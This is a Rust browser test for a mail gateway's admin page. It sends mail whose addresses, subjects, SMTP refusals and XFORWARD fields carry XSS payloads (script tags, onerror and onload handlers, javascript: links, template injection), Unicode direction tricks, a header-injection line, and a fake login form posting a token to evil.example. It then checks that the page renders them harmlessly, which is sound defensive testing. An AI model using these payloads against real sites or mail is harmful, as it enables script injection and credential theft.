//! The live page in a real browser: what an operator does there, and what hostile mail cannot do.

use std::fs;
use std::process::Command;

use portcullis_tests::gateway::plugin;
use portcullis_tests::metrics::get;
use portcullis_tests::peers::{axe, need, python_with};
use portcullis_tests::process::run;
use portcullis_tests::sink::Manners;
use portcullis_tests::{Client, Gateway, Reply, Running, Sink, repository, wait_for};
use serde_json::{Value, json};

const MESSAGE: &[u8] = b"Subject: t\r\n\r\nx\r\n";

/// Senders and recipients that would rather be something else: as local parts, which may be quoted.
const ADDRESSES: [&str; 7] = [
    r#""<script>pwned(1)</script>""#,
    r#""<img src=x onerror=pwned(2)>""#,
    r#""'><svg onload=pwned(3)>""#,
    r#""javascript:pwned(4)""#,
    r#""{{constructor.constructor(`pwned(5)`)()}}""#,
    r#""${pwned(6)}""#,
    r#""</td></tr></table><h1>Accepted</h1>""#,
];

/// Subjects, which a plugin's edits bring to the page.
const SUBJECTS: [&str; 4] = [
    "<script>pwned(7)</script>",
    "\"><iframe srcdoc='<script>parent.pwned(8)</script>'></iframe>",
    "<a href=javascript:pwned(9)>log in again</a>",
    "</bdi></dialog><form action=http://evil.example/><input name=token>",
];

const REFUSED_BY_PLUGIN: &str = "550 5.7.1 <img src=http://evil.example/x onerror=pwned(10)>";
const REFUSED_BY_UPSTREAM: &str =
    "550 5.1.1 <style>*{display:none}</style><object data=javascript:pwned(11)>";

/// Turns what stands behind it around, hides it, ends the line, climbs.
const UNSEEN: &str = "safe\u{202e}exe.fdp\u{2066}\u{200b}\u{feff}\u{2028}\u{1b}[31m";

struct House {
    gateway: Running,
    attacks: Vec<String>,
}

#[test]
fn an_operator_can_work_with_the_page_and_hostile_mail_cannot() {
    let Some([chromium, chromedriver]) = need(["chromium", "chromedriver"]) else { return };
    let Some(python) = python_with("selenium") else { return };
    let Some(axe) = axe() else { return };
    let house = attacked();
    let folder = tempfile::tempdir().unwrap();
    let spec = folder.path().join("spec.json");
    fs::write(&spec, spec_of(&house).to_string()).unwrap();
    let mut command = Command::new(python);
    command
        .arg(repository().join("tests/gateway/browsing/browse.py"))
        .arg(format!("http://{}", house.gateway.admin))
        .arg(house.gateway.address("mx").to_string())
        .args([&spec, &repository().join("target/screenshots")])
        .args([&chromium, &chromedriver, &axe]);
    let said = run(&mut command).expect_success();
    println!("{}", said.stdout);
}

/// A gateway that has seen every attack that fits into mail.
fn attacked() -> House {
    let manners = Manners {
        answers: vec![("RCPT TO:<upstream".to_owned(), REFUSED_BY_UPSTREAM.to_owned())],
        ..Manners::default()
    };
    let sink = Sink::with(manners);
    let gateway = Gateway::before(&sink)
        .listener("trusting", json!({ "trust": { "xclient": ["127.0.0.0/8"], "xforward": ["127.0.0.0/8"] }, "plugins": ["headers"] }))
        .plugin(json!({
            "name": "headers",
            "file": plugin("headers"),
            "grants": ["rewrite-headers"],
            "settings": {
                "rules": [{ "header": "X-Refuse", "present": true, "refuse": REFUSED_BY_PLUGIN }],
                "set": [{ "name": "Subject", "value": "seen" }],
            },
        }))
        .start();
    let mut attacks = Vec::new();
    send_addresses(&gateway, &mut attacks);
    send_contents(&gateway, &mut attacks);
    send_introductions(&gateway, &mut attacks);
    House { gateway, attacks }
}

fn send_addresses(gateway: &Running, attacks: &mut Vec<String>) {
    let mut client = gateway.client();
    for local in ADDRESSES {
        let (sender, recipient) = (format!("{local}@evil.example"), format!("{local}@example.com"));
        deliver(&mut client, &sender, &[&recipient], MESSAGE).expect_code(250);
        attacks.extend([sender, recipient]);
    }
    // As long as a path may be; and more recipients than fit a line.
    let long = format!("{}@{}.example", "l".repeat(190), "d".repeat(50));
    let crowd: Vec<_> = (0..50).map(|number| format!("recipient{number}@example.com")).collect();
    let crowd: Vec<_> = crowd.iter().map(String::as_str).collect();
    deliver(&mut client, &long, &crowd, MESSAGE).expect_code(250);
    attacks.push(long);
    deliver(&mut client, "a@example.org", &["upstream@example.com"], b"").expect_code(550);
    client.command("RSET").expect_code(250);
    attacks.push(REFUSED_BY_UPSTREAM.to_owned());
    deliver(&mut client, "", &["b@example.com"], MESSAGE).expect_code(250);
}

fn send_contents(gateway: &Running, attacks: &mut Vec<String>) {
    let mut client = gateway.client();
    let mut send = |subject: &str, code| {
        let message = format!(
            "Subject: {subject}

x
"
        );
        deliver(&mut client, "s@example.org", &["b@example.com"], message.as_bytes())
            .expect_code(code);
    };
    for subject in SUBJECTS {
        send(subject, 250);
        attacks.push(subject.to_owned());
    }
    send(UNSEEN, 250);
    attacks.extend(["safe", "exe.fdp", "U+202E", "U+200B"].map(str::to_owned));
    send(&"W".repeat(10_000), 250);
    // A letter with 500 accents, which are to stay in their line.
    send(&format!("Z{}", "\u{301}".repeat(100)), 250);
    send("refuse\r\nX-Refuse: yes", 550);
    attacks.push(REFUSED_BY_PLUGIN.to_owned());
}

/// What a trusted peer says of clients that introduce themselves to it.
fn send_introductions(gateway: &Running, attacks: &mut Vec<String>) {
    for number in 1..=4 {
        let mut client = Client::ehlo(gateway.address("trusting"));
        let address = format!("192.0.2.{number}");
        client.command(&format!("XCLIENT ADDR={address} PORT=4711")).expect_code(220);
        client.command("EHLO client.example").expect_code(250);
        client
            .command("XFORWARD IDENT=<b>pwned</b> HELO=<svg/onload+3Dpwned(12)>")
            .expect_code(250);
        let (sender, recipient) =
            (format!("find{number}@sender.example"), format!("who{number}@example.com"));
        deliver(&mut client, &sender, &[&recipient], MESSAGE).expect_code(250);
    }
    attacks.extend(["<b>pwned</b>", "<svg/onload=pwned(12)>"].map(str::to_owned));
}

fn spec_of(house: &House) -> Value {
    let expected = ADDRESSES.len() + SUBJECTS.len() + 10;
    let records = wait_for("the transactions", || {
        let (_, text) = get(house.gateway.admin, "/api/transactions?limit=1000")?;
        let told: Value = serde_json::from_str(&text).ok()?;
        let records = told["transactions"].as_array()?.clone();
        (records.len() >= expected).then_some(records)
    });
    let found = records.iter().filter(|record| {
        record["sender"].as_str().is_some_and(|sender| sender.starts_with("find"))
    });
    let transactions: Vec<_> = found
        .map(|record| {
            json!({
                "id": record["id"],
                "sender": record["sender"],
                "recipient": record["recipients"][0]["address"],
                "client": record["client"]["address"],
            })
        })
        .collect();
    assert_eq!(transactions.len(), 4);
    json!({ "attacks": house.attacks, "transactions": transactions, "explained": ["b@example.com", "store"] })
}

fn deliver(client: &mut Client, from: &str, to: &[&str], message: &[u8]) -> Reply {
    client.deliver(from, to, message).expect("the gateway answers")
}
